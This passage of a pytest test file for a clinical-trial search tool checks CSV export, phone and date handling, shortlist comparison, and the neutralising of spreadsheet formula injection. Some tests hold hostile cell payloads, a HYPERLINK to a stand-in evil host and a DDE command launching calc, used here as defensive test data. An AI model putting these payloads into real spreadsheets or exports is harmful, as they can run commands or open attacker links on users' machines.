    assert result.exit_code == 2
    assert "is not UTF-8 text" in result.stderr


# -- columns filled by the other features -----------------------------------------------------

NEW_YORK_SITE = {
    "facility": "Memorial Sloan Kettering",
    "status": "RECRUITING",
    "city": "New York",
    "state": "New York",
    "zip": "10065",
    "country": "United States",
    "geoPoint": {"lat": 40.71427, "lon": -74.00597},
}


def test_near_fills_the_nearest_site_and_distance_columns(tmp_path):
    path = tmp_path / "near.csv"
    studies = [make_study(locations=[NEW_YORK_SITE, BOSTON_SITE])]
    with FakeApi(studies) as api:
        result = run("--api-url", api.url, "search", "--near", "02115", "-o", str(path))
    assert result.exit_code == 0, result.output
    (row,) = read_csv(path.read_text(encoding="utf-8"))
    assert row["nearest_site"] == "Dana-Farber Cancer Institute"
    assert (row["nearest_city"], row["nearest_state"], row["nearest_country"]) == (
        "Boston",
        "Massachusetts",
        "United States",
    )
    distance = float(row["distance_mi"])
    assert 0 < distance < 5 and row["distance_mi"] == f"{distance:g}"
    assert row["sites_count"] == "2"


def test_compare_names_a_new_nearest_site(tmp_path):
    old_path, new_path = tmp_path / "old.csv", tmp_path / "new.csv"
    before = [make_study(locations=[NEW_YORK_SITE], last_updated="2025-05-01")]
    after = [make_study(locations=[NEW_YORK_SITE, BOSTON_SITE], last_updated="2025-06-01")]
    near = ("--near", "02115", "--within", "200mi")  # New York is 188 miles away
    with FakeApi(before) as api:
        result = run("--api-url", api.url, "search", *near, "-o", str(old_path))
        assert result.exit_code == 0, result.output
        api.studies = after
        result = run(
            "--api-url",
            api.url,
            "search",
            *near,
            "--ids-file",
            str(old_path),
            "--compare",
            str(old_path),
            "-o",
            str(new_path),
        )
    assert result.exit_code == 0, result.output
    (row,) = read_csv(new_path.read_text(encoding="utf-8"))
    assert row["change"] == (
        "updated: nearest site Memorial Sloan Kettering (New York, New York) -> "
        "Dana-Farber Cancer Institute (Boston, Massachusetts)"
    )


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="needs a pseudo-terminal")
def test_progress_goes_to_a_terminal_stderr_and_stdout_stays_pure_csv(fake_api):
    fake_api.studies = studies_1_to(30)
    controller, terminal = os.openpty()
    try:
        process = subprocess.run(
            [sys.executable, "-m", "trialfinder", "search", "--format", "csv", "--limit", "0"],
            stdout=subprocess.PIPE,
            stderr=terminal,
            env={**os.environ, "TERM": "xterm-256color", "COLUMNS": "100"},
            timeout=60,
        )
        os.close(terminal)
        terminal = None
        shown = b""
        with contextlib.suppress(OSError):  # EIO once everything written has been read
            while chunk := os.read(controller, 65536):
                shown += chunk
    finally:
        if terminal is not None:
            os.close(terminal)
        os.close(controller)
    assert process.returncode == 0, shown.decode(errors="replace")
    stdout = process.stdout.decode("utf-8")
    rows = list(csv.reader(io.StringIO(stdout, newline="")))
    assert rows[0] == DOCUMENTED_COLUMNS and len(rows) == 31
    assert stdout == csv_text(full_records([as_exported(s) for s in fake_api.studies]))
    assert b"Fetching trials" in shown  # the progress bar, on the terminal only
    assert b"30 trials matched" in shown


def test_compare_warns_when_a_limit_cut_the_results(tmp_path):
    old_path, new_path = tmp_path / "old.csv", tmp_path / "new.csv"
    with FakeApi(studies_1_to(3)) as api:
        assert run("--api-url", api.url, "search", "-o", str(old_path)).exit_code == 0
        result = run(
            "--api-url",
            api.url,
            "search",
            "--limit",
            "2",
            "--compare",
            str(old_path),
            "-o",
            str(new_path),
        )
    assert result.exit_code == 0, result.output
    rows = read_csv(new_path.read_text("utf-8"))
    assert [r["change"] for r in rows] == [
        "unchanged",
        "unchanged",
        "dropped: no longer in the results",
    ]
    assert (
        "--limit showed 2 trials, there may be more; trials beyond it are marked dropped"
        in result.stderr
    )


def test_shortlist_with_comment_lines_above_its_header_counts_lines_from_the_top(tmp_path):
    from trialfinder.errors import InvalidInput
    from trialfinder.shortlist import read_ids

    path = tmp_path / "annotated.csv"
    path.write_text("# week 12\n\nnct_id,title\nNCT01000001,A\nbad,B\n", encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"line 5: 'bad' is not an NCT id"):
        read_ids(path)
    path.write_text("# week 12\n\nnct_id,title\nNCT01000001,A\n", encoding="utf-8")
    assert read_ids(path) == ["NCT01000001"]


def test_search_fills_the_tag_summary_and_evidence_columns(tmp_path):
    from trialfinder.summary import summarize
    from trialfinder.tagging import tag_trial

    path = tmp_path / "tagged.csv"
    study = make_study(
        title="Axicabtagene Ciloleucel in Relapsed or Refractory Large B-Cell Lymphoma",
        conditions=["Large B-cell Lymphoma"],
        interventions=[{"type": "BIOLOGICAL", "name": "Axicabtagene Ciloleucel"}],
    )
    with FakeApi([study]) as api:
        result = run("--api-url", api.url, "search", "-o", str(path))
    assert result.exit_code == 0, result.output
    (row,) = read_csv(path.read_text(encoding="utf-8"))
    trial = parse_study(as_exported(study))
    tags = tag_trial(trial)
    assert "car-t" in row["categories"].split("; ")
    assert row["categories"] == "; ".join(tags.categories)
    assert row["setting"] == "; ".join(tags.settings) and "refractory" in row["setting"]
    reasons = [e.reason for e in tags.evidence]
    assert any(r.startswith("car-t: ") for r in reasons)
    assert row["evidence"] == "; ".join(reasons)
    assert row["summary"] and row["summary"] == summarize(trial, tags=tags)


# -- cells of any length -------------------------------------------------------------------


def test_a_cell_longer_than_the_csv_default_limit_round_trips(tmp_path):
    from trialfinder.shortlist import read_ids, read_shortlist

    long_text = "Eligibility, in full. " * 8_000 + "End."  # over 131,072 characters
    record = to_record(build_result(parse_study(make_study(title=long_text))))
    path = tmp_path / "shortlist.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        write_csv([record], handle)
    rows = read_shortlist(path)
    assert rows["NCT01000001"]["title"] == long_text
    assert read_ids(path) == ["NCT01000001"]


def test_a_long_cell_round_trips_through_the_command_line(fake_api, tmp_path):
    long_title = "Relapsed myeloma " * 9_000 + "trial"  # 153,005 characters
    fake_api.studies = [make_study(title=long_title), make_study("NCT01000002")]
    shortlist = tmp_path / "shortlist.csv"
    assert run("search", "-o", str(shortlist)).exit_code == 0
    result = run("search", "--ids-file", str(shortlist), "--compare", str(shortlist))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [(r["change"], len(r["title"])) for r in rows] == [
        ("unchanged", len(long_title)),
        ("unchanged", len("Teclistamab in Relapsed or Refractory Multiple Myeloma")),
    ]


def test_a_huge_line_in_an_ids_file_is_a_usage_error(tmp_path):
    ids = tmp_path / "ids.txt"
    ids.write_text('"' + "x" * 200_000 + "\n")
    result = run("search", "--ids-file", str(ids))
    assert result.exit_code == 2
    assert "line 1" in result.stderr and "is not an NCT id" in result.stderr


# -- columns for people -------------------------------------------------------------------


def test_codes_have_their_words_beside_them():
    record = record_of(status="ACTIVE_NOT_RECRUITING", phases=["PHASE1", "PHASE2"], sex="FEMALE")
    (row,) = read_csv(csv_text([record]))
    assert (row["status"], row["status_text"]) == ("ACTIVE_NOT_RECRUITING", "Active not recruiting")
    assert (row["phases"], row["phase_text"]) == ("PHASE1; PHASE2", "Phase 1/2")
    assert (row["sex"], row["sex_text"]) == ("FEMALE", "Female")
    header = list(row)
    for code, words in (("status", "status_text"), ("phases", "phase_text"), ("sex", "sex_text")):
        assert header.index(words) == header.index(code) + 1
    # A code the record does not give leaves its words empty too: nothing is made up.
    (row,) = read_csv(csv_text([{**record, "status": None, "phases": [], "sex": None}]))
    assert row["status_text"] == row["phase_text"] == row["sex_text"] == ""


@needs_shared
def test_interventions_are_named_once_on_real_records():
    record = to_record(build_result(parse_study(load_real_record("NCT02227251"))))
    (row,) = read_csv(csv_text([record]))
    assert row["interventions"] == "Selinexor"
    for path in real_record_paths():
        record = trial_record(parse_study(json.loads(path.read_text(encoding="utf-8"))))
        names = [name.casefold() for name in record["interventions"]]
        assert len(names) == len(set(names)), path.name


def test_interventions_differing_only_in_case_are_named_once_as_first_written():
    record = record_of(
        interventions=[
            {"type": "DRUG", "name": "Iberdomide"},
            {"type": "DRUG", "name": "IBERDOMIDE"},
            {"type": "DRUG", "name": "Dexamethasone"},
            {"type": "DRUG", "name": "Iberdomide"},
        ]
    )
    assert record["interventions"] == ["Iberdomide", "Dexamethasone"]


BOSTON_WITH_CONTACTS = {
    **BOSTON_SITE,
    "contacts": [
        {"name": "Dr. Investigator", "role": "PRINCIPAL_INVESTIGATOR"},
        {"name": "Study Nurse", "role": "SUB_INVESTIGATOR", "phone": "617-555-0111"},
        {"name": "Omar Nadeem", "role": "CONTACT", "phone": "617-632-3000", "phoneExt": "4"},
    ],
}


def test_near_gives_the_nearest_sites_status_and_its_own_contact(tmp_path):
    path = tmp_path / "near.csv"
    with FakeApi([make_study(locations=[NEW_YORK_SITE, BOSTON_WITH_CONTACTS])]) as api:
        result = run("--api-url", api.url, "search", "--near", "02115", "-o", str(path))
    assert result.exit_code == 0, result.output
    (row,) = read_csv(path.read_text(encoding="utf-8"))
    assert row["nearest_site"] == "Dana-Farber Cancer Institute"
    assert row["nearest_site_status"] == "Recruiting"
    # The listed contact, not the investigators: the one a patient is meant to call.
    assert row["nearest_contact_name"] == "Omar Nadeem"
    assert row["nearest_contact_phone"] == "617-632-3000 ext. 4"
    assert row["nearest_contact_email"] == ""
    assert row["central_contact_name"] == "Study Team"  # the trial's own, unchanged


def test_a_site_with_only_an_investigator_who_has_a_phone_gives_that_phone():
    from trialfinder.model import Contact, Site
    from trialfinder.records import site_contact

    investigator = Contact(name="Dr. A", role="PRINCIPAL_INVESTIGATOR", phone="555-0100")
    assert site_contact(Site(contacts=(Contact(name="Dr. B"), investigator)))["name"] == "Dr. A"
    assert site_contact(Site(contacts=(Contact(name="Named, no way to reach"),))) is None
    assert site_contact(Site()) is None


@needs_shared
def test_the_boston_site_of_a_real_trial_gives_its_own_contact_not_the_call_centre():
    from trialfinder.geo import geocode
    from trialfinder.pipeline import ResultOptions

    result = build_result(
        parse_study(load_real_record("NCT04975997")), ResultOptions(near=geocode("02115"))
    )
    (row,) = read_csv(csv_text([to_record(result)]))
    assert row["nearest_city"] == "Boston" and row["nearest_site_status"] == "Recruiting"
    assert row["nearest_contact_name"] == "Omar Nadeem, Site 010"
    assert row["nearest_contact_phone"] == "617-632-3000"
    assert row["central_contact_phone"] == "855-907-3286"  # the sponsor's centre


# -- phone numbers ------------------------------------------------------------------------

# Phone numbers as records give them: none can be read as a formula, none is altered.
PHONES = [
    "(888) 209-9326",  # NCT02227251
    "(+86) 2164175590",
    "617-632-3000 ext. 12",
    "01-02-2024",
]
# Digits alone, which a spreadsheet would open as a number, its leading zeros lost
# ("00306932704780" as 306932704780): the ' shows, and keeps them.
DIGIT_PHONES = ["06123456789", "18772854559", "00306932704780"]
# Those that start with +, which Excel and Google Sheets read as a formula and LibreOffice
# '+16175550100' as a number: the ' shows, where an invisible mark would go into a dialer.
PLUS_PHONES = ["+1 617-555-0100", "+ 33 4 72 73 84 99", "+44 (0)20 7946 0958", "+302313307533"]


def _phone_cells(phone: str) -> dict[str, str]:
    record = record_of()
    record["central_contact"] = {"phone": phone}
    record["nearest_site"] = {"contact": {"phone": phone}}
    (row,) = read_csv(csv_text([record]))
    return {column: row[column] for column in ("central_contact_phone", "nearest_contact_phone")}


@pytest.mark.parametrize("phone", PHONES)
def test_a_phone_number_that_is_no_formula_is_written_as_given(phone):
    assert set(_phone_cells(phone).values()) == {phone}
    assert not formula_like(phone)


@pytest.mark.parametrize("phone", PLUS_PHONES)
def test_a_phone_number_starting_with_plus_gets_the_quote_of_any_formula_like_cell(phone):
    assert set(_phone_cells(phone).values()) == {"'" + phone}  # NCT06056843: '+ 33 4 ...'


@pytest.mark.parametrize("phone", DIGIT_PHONES)
def test_a_phone_number_of_digits_alone_gets_the_quote_that_keeps_its_zeros(phone):
    assert set(_phone_cells(phone).values()) == {"'" + phone}


def test_a_shortlist_read_back_gives_the_phones_as_the_records_do(tmp_path):
    from trialfinder.shortlist import read_shortlist

    path = tmp_path / "list.csv"
    path.write_text(
        "nct_id,central_contact_phone,nearest_contact_phone\r\n"
        "NCT01000001,'00306932704780,'+33 4 72 73 84 99\r\n",
        encoding="utf-8",
    )
    row = read_shortlist(path)["NCT01000001"]
    assert row["central_contact_phone"] == "00306932704780"
    assert row["nearest_contact_phone"] == "+33 4 72 73 84 99"


@needs_shared
def test_the_phones_of_real_records_are_written_as_given_or_quoted():
    for nct_id, cell in (
        ("NCT02227251", "(888) 209-9326"),
        ("NCT06056843", "'+ 33 4 72 73 84 99"),
    ):
        (row,) = read_csv(
            csv_text([to_record(build_result(parse_study(load_real_record(nct_id))))])
        )
        assert row["central_contact_phone"] == cell, nct_id
        assert TEXT_MARK not in "".join(row.values())


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil.example","x")', "+1 555 =cmd", "-1+cmd|'/C calc'!A0"]
)
def test_anything_else_in_a_phone_column_is_neutralised_as_any_cell(text):
    record = record_of()
    record["central_contact"] = {"phone": text}
    (row,) = read_csv(csv_text([record]))
    assert row["central_contact_phone"] == "'" + text


def test_a_shortlist_of_an_earlier_version_is_read_without_its_phone_marks(tmp_path):
    from trialfinder.shortlist import read_shortlist

    path = tmp_path / "old.csv"
    path.write_text(
        "nct_id,central_contact_phone,nearest_contact_phone\r\n"
        f"NCT01000001,{TEXT_MARK}(888) 209-9326,{TEXT_MARK}+33 4 72 73 84 99\r\n",
        encoding="utf-8",
    )
    row = read_shortlist(path)["NCT01000001"]
    assert row["central_contact_phone"] == "(888) 209-9326"
    assert row["nearest_contact_phone"] == "+33 4 72 73 84 99"


# -- dates as spreadsheets write them -----------------------------------------------------


@pytest.mark.parametrize(
    "written, day_first, iso",
    [
        ("2025-05-18", False, "2025-05-18"),
        ("2025-05", False, "2025-05"),
        ("2025-05-18 00:00:00", False, "2025-05-18"),
        ("2025/05/18", False, "2025-05-18"),
        ("5/18/2025", False, "2025-05-18"),
        ("05/18/25", False, "2025-05-18"),
        ("18/5/2025", False, "2025-05-18"),  # a day past 12 comes first: day first
        ("5/6/2025", False, "2025-05-06"),  # ambiguous: month first, as US spreadsheets
        ("5/6/2025", True, "2025-06-05"),  # ... unless the file writes days first
        ("18.05.2025", False, "2025-05-18"),
        ("May 18, 2025", False, "2025-05-18"),
        ("18 May 2025", False, "2025-05-18"),
        ("18-May-25", False, "2025-05-18"),
        ("May 2025", False, "2025-05"),
        ("45795", False, "2025-05-18"),  # Excel's serial number
        (45795, False, "2025-05-18"),
        (45795.0, False, "2025-05-18"),
        ("not a date", False, "not a date"),  # kept as written, never guessed
        ("13/13/2025", False, "13/13/2025"),
        ("2025-02-30", False, "2025-02-30"),
        ("123", False, "123"),
    ],
)
def test_dates_are_read_as_spreadsheets_write_them(written, day_first, iso):
    from trialfinder.shortlist import sheet_date

    assert sheet_date(written, day_first) == iso


def test_workbook_date_cells_are_dates():
    import datetime as dt

    from trialfinder.shortlist import sheet_date

    assert sheet_date(dt.datetime(2025, 5, 18)) == "2025-05-18"
    assert sheet_date(dt.date(2025, 5, 18)) == "2025-05-18"
    assert sheet_date(None) == ""


def test_a_file_that_writes_days_first_is_read_so_throughout(tmp_path):
    from trialfinder.shortlist import read_shortlist

    path = tmp_path / "european.csv"
    path.write_text(
        "nct_id,last_updated\nNCT01000001,18/5/2025\nNCT01000002,5/6/2025\n", encoding="utf-8"
    )
    rows = read_shortlist(path)
    assert rows["NCT01000001"]["last_updated"] == "2025-05-18"
    assert rows["NCT01000002"]["last_updated"] == "2025-06-05"  # 5 June, like its neighbour
    path.write_text(
        "nct_id,last_updated\nNCT01000001,5/18/2025\nNCT01000002,5/6/2025\n", encoding="utf-8"
    )
    assert read_shortlist(path)["NCT01000002"]["last_updated"] == "2025-05-06"


def test_a_shortlist_saved_with_semicolons_is_read(tmp_path):
    # Spreadsheets where the decimal sign is a comma save CSV with ";" (and dates as
    # 18.05.2025): such a file was refused, "no nct_id column in its header".
    from trialfinder.shortlist import is_shortlist, read_ids, read_shortlist

    path = tmp_path / "german.csv"
    path.write_text(
        'nct_id;last_updated;notes\nNCT01000001;18.05.2025;"called; no answer"\n',
        encoding="utf-8",
    )
    assert is_shortlist(path.read_text(encoding="utf-8"))
    row = read_shortlist(path)["NCT01000001"]
    assert row["last_updated"] == "2025-05-18"
    assert row["notes"] == "called; no answer"
    assert read_ids(path) == ["NCT01000001"]
    tabs = tmp_path / "tabs.csv"
    tabs.write_text("nct_id\tnotes\nNCT01000002\tcalled\n", encoding="utf-8")
    assert read_shortlist(tabs)["NCT01000002"]["notes"] == "called"


# -- a shortlist saved again by a spreadsheet -------------------------------------------------


def spreadsheet_saved(path, edit=None) -> None:
    """``path`` as a US spreadsheet saves it again: dates as M/D/YYYY, numbers as shown,
    quotes only where needed, no byte-order mark; ``edit(header, rows)`` adds the user's work."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    header = rows[0]
    for row in rows[1:]:
        for column in ("first_posted", "last_updated"):
            year, month, day = row[header.index(column)].split("-")
            row[header.index(column)] = f"{int(month)}/{int(day)}/{year}"
        distance = row[header.index("distance_mi")]
        if distance:
            row[header.index("distance_mi")] = f"{float(distance):.2f}"
    if edit:
        edit(header, rows[1:])
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


def add_notes(header, rows):
    header += ["notes", "Called on"]
    for number, row in enumerate(rows, start=1):
        row += [f"note {number}, with a comma", f"6/{number}/2025"]


def test_a_users_column_named_as_one_of_ours_comes_along_renamed(tmp_path):
    # "Status" (left voicemail) and "Summary" (own notes) beside trialfinder's "status" and
    # "summary" were dropped without a word
    studies, week1, week2 = _first_week(tmp_path)
    rows = list(csv.reader(io.StringIO(week1.read_text("utf-8-sig"), newline="")))
    rows[0] += ["Summary"]
    rows[0].insert(1, "Status")  # (to the left of trialfinder's status, as often inserted)
    for row in rows[1:]:
        row += ["my own note"]
        row.insert(1, f"left voicemail {row[0][-1]}")
    with week1.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    with FakeApi(studies) as api:
        assert (
            run("--api-url", api.url, "search", "--compare", str(week1), "-o", str(week2)).exit_code
            == 0
        )
    compared = read_csv(week2.read_text("utf-8"))
    assert [(r["Status (2)"], r["Summary (2)"]) for r in compared] == [
        ("left voicemail 1", "my own note"),
        ("left voicemail 2", "my own note"),
    ]
    assert {r["status"] for r in compared} == {"RECRUITING"}


def test_a_malformed_id_is_named_by_the_line_its_row_starts_on(tmp_path):
    # a summary of several lines above it made the message name a later trial's line
    from trialfinder.errors import InvalidInput
    from trialfinder.shortlist import read_shortlist

    path = tmp_path / "h.csv"
    path.write_text(
        'nct_id,summary\nNCT01000001,"one\ntwo"\nNCT1234,"three\nfour\nfive"\nNCT01000002,y\n'
    )
    with pytest.raises(InvalidInput, match=r"h\.csv, line 4: 'NCT1234' is not an NCT id"):
        read_shortlist(path)


def test_a_shortlist_without_its_dates_is_not_said_to_have_changed():
    # every row of a shortlist whose last_updated column was deleted was "updated: last updated
    # ? -> 2014-05-21"
    from trialfinder.shortlist import change_of

    row = {"last_updated": "2025-06-01", "status": "RECRUITING"}
    assert change_of(row, {"status": "RECRUITING"}).startswith("not compared:")
    assert change_of(row, {"status": "NOT_YET_RECRUITING"}) == (
        "updated: status Not yet recruiting -> Recruiting"
    )


def test_rows_whose_cells_are_not_carried_forward_are_named(tmp_path, caplog):
    # a second row of a trial, and a row of notes without an id, were lost without a word
    from trialfinder.shortlist import read_shortlist

    path = tmp_path / "g.csv"
    path.write_text("nct_id,notes\nNCT01000001,first\nNCT01000001,SECOND COPY\n,orphan note\n")
    assert read_shortlist(path)["NCT01000001"]["notes"] == "SECOND COPY"
    assert [r.getMessage() for r in caplog.records] == [
        f"{path}, line 3 lists NCT01000001 again (first at 2): only this row is carried forward",
        f"{path}, line 4 has no NCT id; what it holds is not carried forward",
    ]


def test_a_shortlist_saved_again_unchanged_compares_unchanged_and_keeps_its_notes(tmp_path):
    old_path, new_path = tmp_path / "shortlist.csv", tmp_path / "week2.csv"
    studies = [
        make_study(nct_id=f"NCT0100000{n}", locations=[NEW_YORK_SITE, BOSTON_WITH_CONTACTS])
        for n in (1, 2, 3)
    ]
    with FakeApi(studies) as api:
        args = ("--api-url", api.url, "search", "--near", "02115")
        assert run(*args, "-o", str(old_path)).exit_code == 0
        spreadsheet_saved(old_path, add_notes)
        result = run(*args, "--compare", str(old_path), "-o", str(new_path))
    assert result.exit_code == 0, result.output
    text = new_path.read_text(encoding="utf-8")
    header = next(csv.reader(io.StringIO(text)))
    assert header == ["change", *DOCUMENTED_COLUMNS, "notes", "Called on"]
    rows = read_csv(text)
    assert {r["change"] for r in rows} == {"unchanged"}
    assert [(r["notes"], r["Called on"]) for r in rows] == [
        (f"note {n}, with a comma", f"6/{n}/2025") for n in (1, 2, 3)
    ]
    assert rows[0]["last_updated"] == "2025-06-01"  # written as trialfinder writes dates


def test_the_users_columns_follow_their_trial_and_stay_safe(tmp_path):
    old_path = tmp_path / "old.csv"

    def edit(header, rows):
        header += ["=cmd()", "", "score"]
        rows[0] += ['=HYPERLINK("http://evil.example")', "blank-named", "-2"]
        rows[1] += ["", "", "7.5"]

    with FakeApi(studies_1_to(3)) as api:
        assert run("--api-url", api.url, "search", "-o", str(old_path)).exit_code == 0
        spreadsheet_saved(old_path, edit)
        # Week 2: trial 1 has left, trial 4 is new, the order has changed.
        api.studies = [api.studies[2], api.studies[1], *studies_1_to(4)[3:]]
        result = run("--api-url", api.url, "search", "--compare", str(old_path))
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    # A column without a name is named by its place in the old file.
    assert rows[0][-3:] == ["'=cmd()", f"column {len(DOCUMENTED_COLUMNS) + 2}", "score"]
    by_id = {row[1]: (row[0], row[-3:]) for row in rows[1:]}
    assert by_id == {
        "NCT01000003": ("unchanged", ["", "", ""]),
        "NCT01000002": ("unchanged", ["", "", "7.5"]),
        "NCT01000004": ("new", ["", "", ""]),
        "NCT01000001": (
            "dropped: no longer in the results",
            ['\'=HYPERLINK("http://evil.example")', "blank-named", "-2"],  # -2 stays a number
        ),
    }


def test_dropped_says_why_when_the_registry_tells(tmp_path):
    old_path = tmp_path / "old.csv"
    with FakeApi(studies_1_to(4)) as api:
        api.filter_statuses = True
        assert run("--api-url", api.url, "search", "-o", str(old_path)).exit_code == 0
        closed = make_study(nct_id="NCT01000001", title="Trial 1", status="COMPLETED")
        suspended = make_study(nct_id="NCT01000002", title="Trial 2", status="SUSPENDED")
        # Still recruiting, no longer matching: no longer treated before.
        other = make_study(
            nct_id="NCT01000003",
            title="Newly Diagnosed Myeloma",
            criteria="Inclusion Criteria:\n\n* Newly diagnosed multiple myeloma",
        )
        api.studies = [closed, suspended, other, api.studies[3]]
        result = run("--api-url", api.url, "search", "--compare", str(old_path))
    assert result.exit_code == 0, result.output
    changes = {r["nct_id"]: r["change"] for r in read_csv(result.stdout)}
    assert changes == {
        "NCT01000004": "unchanged",
        "NCT01000001": "dropped: no longer recruiting (status Recruiting -> Completed)",
        "NCT01000002": "dropped: no longer recruiting (status Recruiting -> Suspended)",
        "NCT01000003": "dropped: no longer in the results",
    }


def test_a_dropped_row_carries_the_status_the_registry_gives_now(tmp_path):
    old_path = tmp_path / "old.csv"
    with FakeApi(studies_1_to(2)) as api:
        api.filter_statuses = True
        assert run("--api-url", api.url, "search", "-o", str(old_path)).exit_code == 0
        closed = make_study(
            nct_id="NCT01000001", status="ACTIVE_NOT_RECRUITING", last_updated="2025-08-04"
        )
        api.studies = [closed, api.studies[1]]
        result = run("--api-url", api.url, "search", "--compare", str(old_path))
    assert result.exit_code == 0, result.output
    dropped = read_csv(result.stdout)[-1]
    assert dropped["change"] == (
        "dropped: no longer recruiting (status Recruiting -> Active not recruiting)"
    )
    # Sorted on status, the trial does not show as recruiting.
    assert (dropped["status"], dropped["status_text"]) == (
        "ACTIVE_NOT_RECRUITING",
        "Active not recruiting",
    )
    assert dropped["last_updated"] == "2025-08-04"
    old = read_csv(old_path.read_text(encoding="utf-8"))[0]
    assert dropped["title"] == old["title"]  # the rest as the old shortlist has it


def test_a_dropped_row_keeps_its_old_status_when_the_registry_does_not_tell():
    from trialfinder.shortlist import RegistryState, compare

    old = {"nct_id": "NCT01000001", "status": "RECRUITING", "last_updated": "2025-01-02"}
    gone = {"NCT01000001": old, "NCT01000002": {**old, "nct_id": "NCT01000002"}}
    states = {"NCT01000002": RegistryState("COMPLETED")}  # no date given
    rows = list(compare([], gone, lambda ids: states))
    assert rows[0] == {"change": "dropped: no longer in the results", **old}
    assert (rows[1]["status"], rows[1]["status_text"]) == ("COMPLETED", "Completed")
    assert rows[1]["last_updated"] == "2025-01-02"


def test_dropped_without_an_answer_from_the_registry_says_what_is_known(tmp_path):
    from trialfinder.errors import SourceError
    from trialfinder.shortlist import compare, dropped_why

    old = {"nct_id": "NCT01000001", "status": "RECRUITING"}

    def failing(ids):
        raise SourceError("the registry is down")

    rows = list(compare([], {"NCT01000001": old}, failing))
    assert rows[0]["change"] == "dropped: no longer in the results"
    assert dropped_why(old, None) == "dropped: no longer in the results"
    assert dropped_why({**old, "status": "COMPLETED"}, "COMPLETED") == (
        "dropped: no longer in the results"
    )
    assert dropped_why({**old, "status": "COMPLETED"}, "TERMINATED") == (
        "dropped: no longer in the results (status Completed -> Terminated)"
    )


# -- the documented weekly recipe -----------------------------------------------------------


def documented_recipe() -> dict[str, list[str]]:
    """The commands of docs/shortlists.md's recipe, by their comment (``week 1``, ...)."""
    import shlex
    from pathlib import Path

    docs = Path(__file__).resolve().parents[1] / "docs" / "shortlists.md"
    section = docs.read_text(encoding="utf-8").split("# CSV shortlists", 1)[1]
    block = section.split("```sh\n", 1)[1].split("```", 1)[0].replace("\\\n", " ")
    commands = {}
    for line in block.splitlines():
        command, _, comment = line.partition("#")
        commands[comment.strip()] = shlex.split(command)
    return commands


def test_the_documented_weekly_recipe_finds_new_trials_as_well_as_changes(tmp_path, monkeypatch):
    recipe = documented_recipe()
    week1, week2 = recipe["week 1"], recipe["week 2"]
    assert week1[0] == week2[0] == "trialfinder" and "--ids-file" not in week2
    monkeypatch.chdir(tmp_path)
    near = dict(locations=[BOSTON_SITE])
    with FakeApi(studies_1_to(3, **near)) as api:
        api.filter_statuses = True
        result = run("--api-url", api.url, *week1[1:])
        assert result.exit_code == 0, result.output
        spreadsheet_saved(tmp_path / "shortlist.csv", add_notes)
        updated = make_study(
            nct_id="NCT01000002", phases=["PHASE3"], last_updated="2025-07-01", **near
        )
        closed = make_study(nct_id="NCT01000003", status="ACTIVE_NOT_RECRUITING", **near)
        newcomer = make_study(nct_id="NCT01000009", **near)
        api.studies = [api.studies[0], updated, closed, newcomer]
        result = run("--api-url", api.url, *week2[1:])
    assert result.exit_code == 0, result.output
    rows = read_csv((tmp_path / "shortlist-week2.csv").read_text(encoding="utf-8"))
    assert [(r["nct_id"], r["change"], r["notes"]) for r in rows] == [
        ("NCT01000001", "unchanged", "note 1, with a comma"),
        ("NCT01000002", "updated: phase Phase 2 -> Phase 3", "note 2, with a comma"),
        ("NCT01000009", "new", ""),
        (
            "NCT01000003",
            "dropped: no longer recruiting (status Recruiting -> Active not recruiting)",
            "note 3, with a comma",
        ),
    ]


# -- opened by LibreOffice ------------------------------------------------------------------


@needs_soffice
def test_libreoffice_opens_a_shortlist_with_phones_as_written_and_nothing_run(tmp_path):
    """CSV -> LibreOffice (importing at its most eager: formulas evaluated, dates detected)
    -> xlsx -> openpyxl: phones are as written (a + one, and one of digits alone, with its '),
    hostile cells are text, dates are dates; then LibreOffice
    saves it as CSV again, and a comparison finds nothing changed."""
    import openpyxl

    from officekit import CSV_EXPORT, CSV_IMPORT, convert

    phones = ["+1 617-555-0100", "0612345678", "18772854559", "+44 (0)20 7946 0958"]
    studies = [
        make_study(
            nct_id=f"NCT0100000{n}",
            title=HOSTILE[n],
            central_contacts=[{"name": "Team", "phone": phone}],
            locations=[{**BOSTON_SITE, "contacts": [{"name": "Site", "phone": phone}]}],
        )
        for n, phone in enumerate(phones, start=1)
    ]
    path = tmp_path / "shortlist.csv"
    with FakeApi(studies) as api:
        args = ("--api-url", api.url, "search", "--near", "02115")
        assert run(*args, "-o", str(path)).exit_code == 0
        workbook = convert(path, "xlsx", tmp_path / "opened", infilter=CSV_IMPORT)
        sheet = openpyxl.load_workbook(workbook).active
        header = [cell.value for cell in sheet[1]]
        assert header == DOCUMENTED_COLUMNS
        for row, phone, study in zip(sheet.iter_rows(min_row=2), phones, studies, strict=True):
            cells = dict(zip(header, row, strict=True))
            for column in ("central_contact_phone", "nearest_contact_phone"):
                # not run, nor a number whose leading zero is lost
                assert cells[column].data_type == "s"
                assert cells[column].value == "'" + phone
            title = study["protocolSection"]["identificationModule"]["briefTitle"]
            assert cells["title"].data_type == "s" and cells["title"].value == "'" + title.strip()
            assert cells["nct_id"].data_type == "s"
            assert cells["sites_count"].value == 1 and cells["min_age"].value == 18
            assert cells["last_updated"].is_date
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
        # Saved again as CSV by LibreOffice, with a note added: unchanged, the note kept.
        saved = convert(workbook, CSV_EXPORT, tmp_path / "saved")
        spreadsheet_saved_notes(saved)
        result = run(*args, "--compare", str(saved))
    assert result.exit_code == 0, result.output
    rows = read_csv(result.stdout)
    assert [(r["change"], r["notes"]) for r in rows] == [
        ("unchanged", f"note {n}, with a comma") for n in range(1, 5)
    ]
    assert [r["central_contact_phone"] for r in rows] == ["'" + p for p in phones]


def spreadsheet_saved_notes(path) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    rows[0].append("notes")
    for number, row in enumerate(rows[1:], start=1):
        row.append(f"note {number}, with a comma")
    with path.open("w", encoding="utf-8", newline="") as handle:
